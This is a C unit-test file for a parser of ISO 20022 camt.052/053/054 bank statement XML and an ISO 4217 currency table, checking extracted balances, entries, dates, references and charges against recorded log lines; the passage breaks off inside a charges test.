/*
 * test_camt.c - the camt.052/053/054 reader (camt_read_memory,
 * camt_read_file), its helpers, and the ISO 4217 table.
 *
 * Each test reads a small inline document through a recorder whose
 * callbacks write one line per event (see the rec_* functions), and then
 * looks for the expected lines: what the reader extracted, in what order
 * the callbacks came, and which errors it reported where.
 */
#include "helpers.h"

#include <criterion/parameterized.h>
#include <time.h>

#include "camt.h"
#include "currency.h"
#include "sha256.h"

#define NS53 "urn:iso:std:iso:20022:tech:xsd:camt.053.001."

/* ------------------------------------------------------------------ */
/* the recorder */

struct rec {
	struct strbuf log;
	int stop_at_entry; /* return 42 from this entry (1-based), 0: never */
};

static void add_dec(struct strbuf *sb, const struct dec *v)
{
	dec_format(sb, v, v->scale, '.', 0);
}

static void add_amount(struct strbuf *sb, const struct camt_amount *a)
{
	if (!a->present) {
		strbuf_addstr(sb, "-");
		return;
	}
	add_dec(sb, &a->value);
	strbuf_addf(sb, " %s", a->currency);
}

static void add_date(struct strbuf *sb, clerk_date d)
{
	char buf[11];
	if (d == DATE_NONE) {
		strbuf_addstr(sb, "-");
		return;
	}
	date_format(d, buf);
	strbuf_addstr(sb, buf);
}

static const char *s_(const char *s)
{
	return s ? s : "-";
}

static const char *cdi_(enum camt_cdi c)
{
	return c == CAMT_CREDIT ? "CRDT" : c == CAMT_DEBIT ? "DBIT" : "-";
}

static void add_charges(struct strbuf *sb, const struct camt_charges *c)
{
	strbuf_addstr(sb, " chg=");
	add_amount(sb, &c->total);
	for (size_t i = 0; i < c->nrecords; i++) {
		strbuf_addstr(sb, "|");
		add_amount(sb, &c->records[i].amount);
		strbuf_addf(sb, ":%s:%d:%s", cdi_(c->records[i].cdi), c->records[i].included,
			    s_(c->records[i].type));
	}
}

static void add_bktx(struct strbuf *sb, const struct camt_bank_tx_code *b)
{
	strbuf_addf(sb, " bk=%s/%s/%s/%s/%s", s_(b->domain), s_(b->family), s_(b->subfamily),
		    s_(b->proprietary), s_(b->issuer));
}

static void add_detail(struct strbuf *sb, const char *name, const struct camt_amount_detail *d)
{
	if (!d->amount.present && !d->fx.rate)
		return;
	strbuf_addf(sb, " %s=", name);
	add_amount(sb, &d->amount);
	if (d->fx.rate || d->fx.source[0])
		strbuf_addf(sb, " fx=%s>%s/%s@%s", d->fx.source, d->fx.target, d->fx.unit,
			    s_(d->fx.rate));
}

static int rec_begin(const struct camt_statement *st, void *ctx)
{
	struct rec *r = ctx;
	strbuf_addf(&r->log, "B %s.001.%02d #%zu id=%s acct=%s ccy=%s nbal=%zu nerr=%zu\n",
		    camt_kind_name(st->kind), st->version, st->index, s_(st->id), s_(st->account),
		    st->currency[0] ? st->currency : "-", st->nbalances, st->nerrors);
	return 0;
}

static int rec_entry(const struct camt_statement *st, const struct camt_entry *e, void *ctx)
{
	struct rec *r = ctx;
	struct strbuf *sb = &r->log;
	(void)st;
	strbuf_addf(sb, "E%zu line=%u amt=", e->index, e->line);
	add_amount(sb, &e->amount);
	strbuf_addf(sb, " cdi=%s rvsl=%d sts=%s booked=%d bd=", cdi_(e->cdi), e->reversal,
		    s_(e->status), e->booked);
	add_date(sb, e->booking_date);
	strbuf_addstr(sb, " vd=");
	add_date(sb, e->value_date);
	strbuf_addf(sb, " ref=%s", s_(e->acct_svcr_ref));
	add_bktx(sb, &e->bank_tx_code);
	add_charges(sb, &e->charges);
	add_detail(sb, "instd", &e->amount_details.instructed);
	strbuf_addf(sb, " btch=%s/%s/%s info=%s ntx=%zu\n", s_(e->batch_msg_id),
		    s_(e->batch_pmt_inf_id), s_(e->batch_nb_of_txs), s_(e->additional_info), e->ntxs);
	for (size_t i = 0; i < e->ntxs; i++) {
		const struct camt_tx *t = &e->txs[i];
		const struct camt_amount *a = camt_tx_amount(e, t);
		strbuf_addf(sb, "  T%zu amt=", i + 1);
		add_amount(sb, &t->amount);
		strbuf_addstr(sb, " eff=");
		if (a)
			add_amount(sb, a);
		else
			strbuf_addstr(sb, "-");
		strbuf_addf(sb, " cdi=%s/%s", cdi_(t->cdi), cdi_(camt_tx_cdi(e, t)));
		add_detail(sb, "instd", &t->amount_details.instructed);
		add_detail(sb, "txamt", &t->amount_details.transaction);
		add_detail(sb, "cntrval", &t->amount_details.counter_value);
		strbuf_addf(sb, " refs=%s/%s/%s/%s/%s/%s/%s/%s", s_(t->refs.msg_id),
			    s_(t->refs.acct_svcr_ref), s_(t->refs.pmt_inf_id), s_(t->refs.instr_id),
			    s_(t->refs.end_to_end_id), s_(t->refs.tx_id), s_(t->refs.uetr),
			    s_(t->refs.mandate_id));
		strbuf_addf(sb, " dbtr=%s/%s cdtr=%s/%s/%s udbtr=%s ucdtr=%s", s_(t->debtor.name),
			    s_(t->debtor.iban), s_(t->creditor.name), s_(t->creditor.iban),
			    s_(t->creditor.other), s_(t->ultimate_debtor.name),
			    s_(t->ultimate_creditor.name));
		strbuf_addstr(sb, " ustrd=[");
		for (size_t k = 0; k < t->nunstructured; k++)
			strbuf_addf(sb, "%s%s", k ? "|" : "", t->unstructured[k]);
		strbuf_addstr(sb, "] cref=[");
		for (size_t k = 0; k < t->ncreditor_refs; k++)
			strbuf_addf(sb, "%s%s:%s:%s", k ? "|" : "", s_(t->creditor_refs[k].ref),
				    s_(t->creditor_refs[k].type), s_(t->creditor_refs[k].issuer));
		strbuf_addstr(sb, "] docs=[");
		for (size_t k = 0; k < t->nreferred_docs; k++)
			strbuf_addf(sb, "%s%s", k ? "|" : "", t->referred_docs[k]);
		strbuf_addf(sb, "] rtr=%s info=%s", s_(t->return_reason), s_(t->additional_info));
		add_bktx(sb, &t->bank_tx_code);
		add_charges(sb, &t->charges);
		strbuf_addch(sb, '\n');
	}
	return r->stop_at_entry && (size_t)r->stop_at_entry == e->index ? 42 : 0;
}

static int rec_end(const struct camt_statement *st, void *ctx)
{
	struct rec *r = ctx;
	struct strbuf *sb = &r->log;
	const struct camt_balance *o = camt_opening(st), *c = camt_closing(st);
	enum camt_balanced b = camt_balanced(st);
	strbuf_addf(sb, "S id=%s seq=%s/%s created=%s from=", s_(st->id), s_(st->electronic_seq),
		    s_(st->legal_seq), s_(st->created));
	add_date(sb, st->from);
	strbuf_addstr(sb, " to=");
	add_date(sb, st->to);
	strbuf_addf(sb, " msg=%s acct=%s/%s ccy=%s entries=%zu booked=%zu cr=", s_(st->msg_id),
		    s_(st->account_iban), s_(st->account_other), st->currency[0] ? st->currency : "-",
		    st->nentries, st->nbooked);
	add_dec(sb, &st->booked_credits);
	strbuf_addstr(sb, " db=");
	add_dec(sb, &st->booked_debits);
	strbuf_addf(sb, " open=%s close=%s balanced=%s nerr=%zu\n", o ? o->type : "-",
		    c ? c->type : "-",
		    b == CAMT_BALANCED_YES ? "yes" : b == CAMT_BALANCED_NO ? "no" : "unknown",
		    st->nerrors);
	for (size_t i = 0; i < st->nbalances; i++) {
		const struct camt_balance *bal = &st->balances[i];
		strbuf_addf(sb, "  BAL %s/%s ", s_(bal->type), s_(bal->proprietary));
		add_amount(sb, &bal->amount);
		strbuf_addstr(sb, " ");
		add_date(sb, bal->date);
		strbuf_addf(sb, " line=%u\n", bal->line);
	}
	return 0;
}

static const struct camt_handler rec_handler = { rec_begin, rec_entry, rec_end };

/* Reads text through the recorder; returns camt_read_memory's result. */
static int read_doc(struct rec *r, const char *text, struct diag *d)
{
	return camt_read_memory("t.xml", text, strlen(text), &rec_handler, r, d);
}

#define REC_INIT { STRBUF_INIT, 0 }

#define assert_log(r, needle)                                                                  \
	cr_assert(strstr((r)->log.buf, (needle)) != NULL, "log lacks \"%s\"; log:\n%s", (needle), \
		  (r)->log.buf)

#define assert_not_log(r, needle)                                                              \
	cr_assert(strstr((r)->log.buf, (needle)) == NULL, "log has \"%s\"; log:\n%s", (needle),   \
		  (r)->log.buf)

/* A camt.053 document of version ver around the Stmt content body. */
static char *stmt_doc(const char *ver, const char *body)
{
	struct strbuf sb = STRBUF_INIT;
	strbuf_addf(&sb,
		    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
		    "<Document xmlns=\"" NS53 "%s\">\n"
		    "<BkToCstmrStmt>\n"
		    "<GrpHdr><MsgId>M1</MsgId></GrpHdr>\n"
		    "<Stmt>\n"
		    "<Id>S1</Id>\n"
		    "<Acct><Id><IBAN>DE89370400440532013000</IBAN></Id><Ccy>EUR</Ccy></Acct>\n"
		    "%s"
		    "</Stmt>\n"
		    "</BkToCstmrStmt>\n"
		    "</Document>\n",
		    ver, body);
	return strbuf_detach(&sb, NULL);
}

/* An entry with amount, cdi and extra content. */
#define NTRY(amt, cdi, extra)                                                                  \
	"<Ntry>\n<Amt Ccy=\"EUR\">" amt "</Amt>\n<CdtDbtInd>" cdi "</CdtDbtInd>\n" extra "</Ntry>\n"

#define BAL(code, amt, cdi)                                                                    \
	"<Bal><Tp><CdOrPrtry><Cd>" code "</Cd></CdOrPrtry></Tp><Amt Ccy=\"EUR\">" amt               \
	"</Amt><CdtDbtInd>" cdi "</CdtDbtInd><Dt><Dt>2024-01-31</Dt></Dt></Bal>\n"

/* ------------------------------------------------------------------ */
/* ISO 4217 */

Test(currency, table_is_sorted_and_unique)
{
	size_t n;
	const struct currency *t = currency_table(&n);
	cr_assert_gt(n, 170);
	for (size_t i = 1; i < n; i++)
		cr_assert_lt(strcmp(t[i - 1].code, t[i].code), 0, "%s before %s", t[i - 1].code,
			     t[i].code);
	for (size_t i = 0; i < n; i++)
		cr_assert_eq(currency_find(t[i].code), &t[i], "%s not found", t[i].code);
	ASSERT_NO_LEAKS();
}

struct ccy_case {
	char code[8];
	int exponent; /* -2: not found */
};

ParameterizedTestParameters(currency, find)
{
	static struct ccy_case cases[] = {
		{ "EUR", 2 }, { "USD", 2 }, { "CHF", 2 },  { "SEK", 2 },  { "JPY", 0 },
		{ "KRW", 0 }, { "BHD", 3 }, { "KWD", 3 },  { "TND", 3 },  { "CLF", 4 },
		{ "UYW", 4 }, { "XXX", -1 }, { "XAU", -1 }, { "LTL", 2 },  { "HRK", 2 },
		{ "eur", -2 }, { "EU", -2 }, { "EURO", -2 }, { "EUX", -2 }, { "", -2 },
	};
	return cr_make_param_array(struct ccy_case, cases, ARRAY_SIZE(cases));
}

ParameterizedTest(struct ccy_case *c, currency, find)
{
	const struct currency *cur = currency_find(c->code);
	if (c->exponent == -2) {
		cr_assert_null(cur, "'%s' should be unknown", c->code);
	} else {
		cr_assert_not_null(cur, "'%s' should be known", c->code);
		cr_assert_eq(cur->exponent, c->exponent, "%s: exponent %d, expected %d", c->code,
			     cur->exponent, c->exponent);
	}
	ASSERT_NO_LEAKS();
}

Test(currency, historic_codes_are_marked)
{
	cr_assert(currency_find("LTL")->historic);
	cr_assert(currency_find("HRK")->historic);
	cr_assert_not(currency_find("EUR")->historic);
	cr_assert_not(currency_find("XCG")->historic);
	ASSERT_NO_LEAKS();
}

/* ------------------------------------------------------------------ */
/* statements and balances */

Test(camt, statement_header_and_balances)
{
	char *doc = stmt_doc("02", "<ElctrncSeqNb>41</ElctrncSeqNb>\n"
				   "<LglSeqNb>7</LglSeqNb>\n"
				   "<CreDtTm>2024-02-01T06:00:00</CreDtTm>\n"
				   "<FrToDt><FrDtTm>2024-01-01T00:00:00+01:00</FrDtTm>"
				   "<ToDtTm>2024-01-31T23:59:59+01:00</ToDtTm></FrToDt>\n" BAL(
					   "OPBD", "100.00", "CRDT") BAL("CLBD", "25.50", "DBIT")
					   BAL("CLAV", "7", "CRDT"));
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_no_diag(&d);
	assert_log(&r, "B camt.053.001.02 #1 id=S1 acct=DE89370400440532013000 ccy=EUR nbal=3 nerr=0\n");
	assert_log(&r, "S id=S1 seq=41/7 created=2024-02-01T06:00:00 from=2024-01-01 to=2024-01-31 "
		       "msg=M1 acct=DE89370400440532013000/- ccy=EUR entries=0 booked=0 cr=0 db=0 "
		       "open=OPBD close=CLBD balanced=no nerr=0\n");
	assert_log(&r, "  BAL OPBD/- 100.00 EUR 2024-01-31 line=12\n");
	assert_log(&r, "  BAL CLBD/- -25.50 EUR 2024-01-31 line=13\n"); /* DBIT: negative */
	assert_log(&r, "  BAL CLAV/- 7 EUR 2024-01-31 line=14\n");
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, entries_sum_and_balance)
{
	char *doc = stmt_doc("08", BAL("OPBD", "1000.00", "CRDT") BAL("CLBD", "1204.50", "CRDT")
			   NTRY("250.00", "CRDT", "<Sts><Cd>BOOK</Cd></Sts>\n")
			   NTRY("45.50", "DBIT", "<Sts><Cd>BOOK</Cd></Sts>\n")
			   NTRY("9.99", "DBIT", "<Sts><Cd>PDNG</Cd></Sts>\n"));
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_no_diag(&d);
	assert_log(&r, "entries=3 booked=2 cr=250.00 db=45.50 open=OPBD close=CLBD balanced=yes");
	assert_log(&r, "E3 line=20 amt=9.99 EUR cdi=DBIT rvsl=0 sts=PDNG booked=0");
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, callbacks_in_order_begin_before_entries)
{
	char *doc = stmt_doc("04", NTRY("1.00", "CRDT", "") NTRY("2.00", "CRDT", ""));
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	const char *b = strstr(r.log.buf, "B camt"), *e1 = strstr(r.log.buf, "E1 "),
		   *e2 = strstr(r.log.buf, "E2 "), *s = strstr(r.log.buf, "S id");
	cr_assert(b && e1 && e2 && s && b < e1 && e1 < e2 && e2 < s, "order:\n%s", r.log.buf);
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, balances_after_entries_and_any_order)
{
	/* Id, Acct and the balances after the entries; fields of Bal and Ntry reversed */
	static const char doc[] =
		"<Document xmlns=\"" NS53 "04\"><BkToCstmrStmt><Stmt>\n"
		"<Ntry><AcctSvcrRef>R1</AcctSvcrRef><Sts>BOOK</Sts><CdtDbtInd>CRDT</CdtDbtInd>"
		"<Amt Ccy=\"SEK\">1000</Amt></Ntry>\n"
		"<Acct><Ccy>SEK</Ccy><Id><Othr><Id>5011-1234567</Id></Othr></Id></Acct>\n"
		"<Id>LATE</Id>\n"
		"<Bal><Dt><Dt>2024-04-15</Dt></Dt><CdtDbtInd>CRDT</CdtDbtInd><Amt Ccy=\"SEK\">1500.00</Amt>"
		"<Tp><CdOrPrtry><Cd>CLBD</Cd></CdOrPrtry></Tp></Bal>\n"
		"<Bal><Amt Ccy=\"SEK\">500.00</Amt><Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp>"
		"<CdtDbtInd>CRDT</CdtDbtInd></Bal>\n"
		"</Stmt></BkToCstmrStmt></Document>\n";
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_no_diag(&d);
	/* at the first entry nothing after it is known yet */
	assert_log(&r, "B camt.053.001.04 #1 id=- acct=- ccy=- nbal=0");
	assert_log(&r, "S id=LATE seq=-/- created=- from=- to=- msg=- acct=-/5011-1234567 ccy=SEK "
		       "entries=1 booked=1 cr=1000 db=0 open=OPBD close=CLBD balanced=yes");
	assert_log(&r, "  BAL OPBD/- 500.00 SEK - line=6\n");
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, several_statements_and_kinds)
{
	static const char doc052[] =
		"<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.052.001.06\">"
		"<BkToCstmrAcctRpt><GrpHdr><MsgId>G</MsgId></GrpHdr>"
		"<Rpt><Id>R1</Id><Acct><Id><IBAN>A1</IBAN></Id></Acct></Rpt>"
		"<Rpt><Id>R2</Id><Acct><Id><IBAN>A2</IBAN></Id></Acct></Rpt>"
		"</BkToCstmrAcctRpt></Document>";
	static const char doc054[] =
		"<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.054.001.13\">"
		"<BkToCstmrDbtCdtNtfctn><Ntfctn><Id>N1</Id></Ntfctn></BkToCstmrDbtCdtNtfctn></Document>";
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc052, &d), 0);
	assert_log(&r, "B camt.052.001.06 #1 id=R1 acct=A1");
	assert_log(&r, "B camt.052.001.06 #2 id=R2 acct=A2");
	cr_assert_eq(read_doc(&r, doc054, &d), 0);
	assert_log(&r, "B camt.054.001.13 #1 id=N1");
	assert_no_diag(&d);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

ParameterizedTestParameters(camt, every_version)
{
	static int versions[] = { 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13 };
	return cr_make_param_array(int, versions, ARRAY_SIZE(versions));
}

ParameterizedTest(int *v, camt, every_version)
{
	struct strbuf doc = STRBUF_INIT, want = STRBUF_INIT;
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	/* version 1 names the message element with a V01 suffix */
	strbuf_addf(&doc,
		    "<Document xmlns=\"" NS53 "%02d\"><BkToCstmrStmt%s><Stmt><Id>X</Id>"
		    "</Stmt></BkToCstmrStmt%s></Document>",
		    *v, *v == 1 ? "V01" : "", *v == 1 ? "V01" : "");
	cr_assert_eq(read_doc(&r, doc.buf, &d), 0);
	assert_no_diag(&d);
	strbuf_addf(&want, "B camt.053.001.%02d #1 id=X", *v);
	assert_log(&r, want.buf);
	strbuf_release(&doc);
	strbuf_release(&want);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, prefixed_namespace_bom_crlf_and_foreign_elements)
{
	static const char doc[] =
		"\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n"
		"<c:Document xmlns:c=\"" NS53 "08\" xmlns:x=\"urn:example:ext\">\r\n"
		"<c:BkToCstmrStmt><c:Stmt><c:Id>P1</c:Id>\r\n"
		"<c:Ntry><c:Amt Ccy=\"EUR\">2.00</c:Amt><x:Amt Ccy=\"EUR\">999</x:Amt>\r\n"
		"<c:CdtDbtInd>CRDT</c:CdtDbtInd><x:Note><c:Amt Ccy=\"EUR\">888</c:Amt></x:Note>\r\n"
		"<Amt Ccy=\"EUR\">777</Amt></c:Ntry>\r\n"
		"</c:Stmt></c:BkToCstmrStmt></c:Document>\r\n";
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_no_diag(&d);
	assert_log(&r, "E1 line=4 amt=2.00 EUR cdi=CRDT");
	assert_log(&r, "entries=1 booked=1 cr=2.00 db=0 ");
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

/* ------------------------------------------------------------------ */
/* entries */

Test(camt, entry_fields)
{
	char *doc = stmt_doc(
		"02", NTRY("45.50", "DBIT",
			   "<Sts>BOOK</Sts>\n"
			   "<BookgDt><Dt>2024-02-29</Dt></BookgDt>\n"
			   "<ValDt><Dt>2024-03-01</Dt></ValDt>\n"
			   "<AcctSvcrRef>  REF-1\n </AcctSvcrRef>\n"
			   "<BkTxCd><Domn><Cd>PMNT</Cd><Fmly><Cd>ICDT</Cd><SubFmlyCd>ESCT</SubFmlyCd>"
			   "</Fmly></Domn><Prtry><Cd>NTRF+116</Cd><Issr>DK</Issr></Prtry></BkTxCd>\n"
			   "<AddtlNtryInf>rent</AddtlNtryInf>\n"));
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_no_diag(&d);
	assert_log(&r, "E1 line=8 amt=45.50 EUR cdi=DBIT rvsl=0 sts=BOOK booked=1 bd=2024-02-29 "
		       "vd=2024-03-01 ref=REF-1 bk=PMNT/ICDT/ESCT/NTRF+116/DK chg=- btch=-/-/- "
		       "info=rent ntx=0\n");
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

struct status_case {
	char xml[64];
	char want[32];
};

ParameterizedTestParameters(camt, status_forms)
{
	static struct status_case cases[] = {
		{ "<Sts>BOOK</Sts>", "sts=BOOK booked=1" },
		{ "<Sts>PDNG</Sts>", "sts=PDNG booked=0" },
		{ "<Sts>INFO</Sts>", "sts=INFO booked=0" },
		{ "<Sts><Cd>BOOK</Cd></Sts>", "sts=BOOK booked=1" },
		{ "<Sts>\n  <Cd>PDNG</Cd>\n</Sts>", "sts=PDNG booked=0" },
		{ "<Sts><Prtry>HELD</Prtry></Sts>", "sts=HELD booked=0" },
		{ "", "sts=- booked=1" },
	};
	return cr_make_param_array(struct status_case, cases, ARRAY_SIZE(cases));
}

ParameterizedTest(struct status_case *c, camt, status_forms)
{
	struct strbuf body = STRBUF_INIT;
	strbuf_addf(&body, NTRY("5.00", "CRDT", "%s\n"), c->xml);
	char *doc = stmt_doc("08", body.buf);
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_log(&r, c->want);
	free(doc);
	strbuf_release(&body);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

struct date_case {
	char xml[96];
	char want[32];
};

ParameterizedTestParameters(camt, dt_and_dttm)
{
	static struct date_case cases[] = {
		{ "<BookgDt><Dt>2024-02-29</Dt></BookgDt>", "bd=2024-02-29" },
		{ "<BookgDt><Dt>2024-02-29+01:00</Dt></BookgDt>", "bd=2024-02-29" },
		{ "<BookgDt><DtTm>2014-01-04T23:00:00.000Z</DtTm></BookgDt>", "bd=2014-01-04" },
		{ "<BookgDt><DtTm>2025-07-23T00:00:00.000000000</DtTm></BookgDt>", "bd=2025-07-23" },
		{ "<BookgDt><DtTm>2023-06-21T12:35:33.115965</DtTm></BookgDt>", "bd=2023-06-21" },
		{ "<BookgDt><DtTm>2024-03-07T16:05:00-05:00</DtTm></BookgDt>", "bd=2024-03-07" },
		{ "<ValDt><Dt>2016-01-01</Dt></ValDt>", "bd=- vd=2016-01-01" },
		{ "", "bd=- vd=-" },
	};
	return cr_make_param_array(struct date_case, cases, ARRAY_SIZE(cases));
}

ParameterizedTest(struct date_case *c, camt, dt_and_dttm)
{
	struct strbuf body = STRBUF_INIT;
	strbuf_addf(&body, NTRY("5.00", "CRDT", "%s\n"), c->xml);
	char *doc = stmt_doc("08", body.buf);
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_no_diag(&d);
	assert_log(&r, c->want);
	free(doc);
	strbuf_release(&body);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, reversal_does_not_flip_the_sign)
{
	char *doc = stmt_doc("04", BAL("OPBD", "1000.00", "CRDT") BAL("CLBD", "1000.00", "CRDT")
			   NTRY("300.00", "CRDT", "<Sts>BOOK</Sts>")
			   NTRY("300.00", "DBIT", "<RvslInd>true</RvslInd><Sts>BOOK</Sts>")
			   NTRY("50.00", "CRDT", "<RvslInd>1</RvslInd>")
			   NTRY("50.00", "DBIT", "<RvslInd>false</RvslInd>"));
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_no_diag(&d);
	assert_log(&r, "E2 line=");
	assert_log(&r, "amt=300.00 EUR cdi=DBIT rvsl=1");
	assert_log(&r, "amt=50.00 EUR cdi=CRDT rvsl=1");
	assert_log(&r, "amt=50.00 EUR cdi=DBIT rvsl=0");
	assert_log(&r, "cr=350.00 db=350.00 open=OPBD close=CLBD balanced=yes");
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

/* ------------------------------------------------------------------ */
/* transaction details */

Test(camt, batch_with_several_details)
{
	char *doc = stmt_doc(
		"08",
		NTRY("600.00", "CRDT",
		     "<NtryDtls>\n"
		     "<Btch><MsgId>COLL</MsgId><PmtInfId>COLL-1</PmtInfId><NbOfTxs>3</NbOfTxs></Btch>\n"
		     "<TxDtls><Refs><EndToEndId>B1</EndToEndId></Refs><Amt Ccy=\"EUR\">100.00</Amt>"
		     "<RltdPties><Dbtr><Pty><Nm>Acme</Nm></Pty></Dbtr>"
		     "<DbtrAcct><Id><IBAN>DE02120300000000202051</IBAN></Id></DbtrAcct></RltdPties>"
		     "</TxDtls>\n"
		     "<TxDtls><Refs><EndToEndId>B2</EndToEndId></Refs><Amt Ccy=\"EUR\">200.00</Amt>"
		     "</TxDtls>\n"
		     "<TxDtls><Refs><EndToEndId>B3</EndToEndId></Refs><Amt Ccy=\"EUR\">300.00</Amt>"
		     "<CdtDbtInd>CRDT</CdtDbtInd></TxDtls>\n"
		     "</NtryDtls>\n"));
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_no_diag(&d);
	assert_log(&r, " btch=COLL/COLL-1/3 info=- ntx=3\n");
	assert_log(&r, "  T1 amt=100.00 EUR eff=100.00 EUR cdi=-/CRDT refs=-/-/-/-/B1/-/-/- "
		       "dbtr=Acme/DE02120300000000202051 ");
	assert_log(&r, "  T2 amt=200.00 EUR eff=200.00 EUR cdi=-/CRDT refs=-/-/-/-/B2/");
	assert_log(&r, "  T3 amt=300.00 EUR eff=300.00 EUR cdi=CRDT/CRDT ");
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, version_01_batch_and_details_directly_in_the_entry)
{
	static const char doc[] =
		"<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:camt.052.001.01\">"
		"<BkToCstmrAcctRptV01><Rpt><Id>R</Id>"
		"<Ntry><Amt Ccy=\"SEK\">200000</Amt><CdtDbtInd>DBIT</CdtDbtInd><Sts>BOOK</Sts>"
		"<Btch><PmtInfId>P1</PmtInfId><NbOfTxs>20</NbOfTxs></Btch>"
		"<TxDtls><Refs><EndToEndId>E</EndToEndId></Refs></TxDtls></Ntry>"
		"</Rpt></BkToCstmrAcctRptV01></Document>";
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_log(&r, "btch=-/P1/20 info=- ntx=1\n");
	/* the only detail has no amount of its own: the entry's */
	assert_log(&r, "  T1 amt=- eff=200000 SEK cdi=-/DBIT");
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, references_parties_and_remittance)
{
	char *doc = stmt_doc(
		"08",
		NTRY("100.00", "DBIT",
		     "<NtryDtls><TxDtls>\n"
		     "<Refs><MsgId>MSG</MsgId><AcctSvcrRef>ASR</AcctSvcrRef><PmtInfId>PMT</PmtInfId>"
		     "<InstrId>INS</InstrId><EndToEndId>E2E</EndToEndId><TxId>TX</TxId>"
		     "<UETR>3f2504e0-4f89-41d3-9a0c-0305e82c3301</UETR><MndtId>MND</MndtId></Refs>\n"
		     "<RltdPties><Dbtr><Nm>Me</Nm></Dbtr><UltmtDbtr><Nm>My Holding</Nm></UltmtDbtr>"
		     "<Cdtr><Pty><Nm>Paperco</Nm></Pty></Cdtr>"
		     "<CdtrAcct><Id><Othr><Id>12-3456</Id></Othr></Id></CdtrAcct>"
		     "<UltmtCdtr><Pty><Nm>Paper Group</Nm></Pty></UltmtCdtr></RltdPties>\n"
		     "<RmtInf><Ustrd>line one</Ustrd><Ustrd>line two</Ustrd><Ustrd/>"
		     "<Strd><RfrdDocInf><Nb>INV-1</Nb></RfrdDocInf><RfrdDocInf><Nb>INV-2</Nb></RfrdDocInf>"
		     "<CdtrRefInf><Tp><CdOrPrtry><Cd>SCOR</Cd></CdOrPrtry><Issr>ISO</Issr></Tp>"
		     "<Ref>RF18539007547034</Ref></CdtrRefInf></Strd>"
		     "<Strd><CdtrRefInf><Ref>210000000003139471430009017</Ref>"
		     "<Tp><CdOrPrtry><Prtry>QRR</Prtry></CdOrPrtry></Tp></CdtrRefInf></Strd></RmtInf>\n"
		     "<RtrInf><Rsn><Prtry>X1</Prtry><Cd>AC04</Cd></Rsn></RtrInf>\n"
		     "<AddtlTxInf>more</AddtlTxInf>\n"
		     "<BkTxCd><Prtry><Cd>NMSC+201</Cd></Prtry></BkTxCd>\n"
		     "</TxDtls></NtryDtls>\n"));
	struct rec r = REC_INIT;
	struct diag d = DIAG_INIT;
	cr_assert_eq(read_doc(&r, doc, &d), 0);
	assert_no_diag(&d);
	assert_log(&r, "refs=MSG/ASR/PMT/INS/E2E/TX/3f2504e0-4f89-41d3-9a0c-0305e82c3301/MND "
		       "dbtr=Me/- cdtr=Paperco/-/12-3456 udbtr=My Holding ucdtr=Paper Group "
		       "ustrd=[line one|line two] "
		       "cref=[RF18539007547034:SCOR:ISO|210000000003139471430009017:QRR:-] "
		       "docs=[INV-1|INV-2] rtr=AC04 info=more bk=-/-/-/NMSC+201/-");
	free(doc);
	strbuf_release(&r.log);
	diag_release(&d);
	ASSERT_NO_LEAKS();
}

Test(camt, charges_records_and_v02_form)
{
	char *doc08 = stmt_doc(
		"08", NTRY("1002.50", "DBIT",
			   "<Chrgs><TtlChrgsAndTaxAmt Ccy=\"EUR\">2.50</TtlChrgsAndTaxAmt>"
			   "<Rcrd><Amt Ccy=\"EUR\">2.00</Amt><CdtDbtInd>DBIT</CdtDbtInd>"
			   "<ChrgInclInd>false</ChrgInclInd><Tp><Cd>COMM</Cd></Tp></Rcrd>"
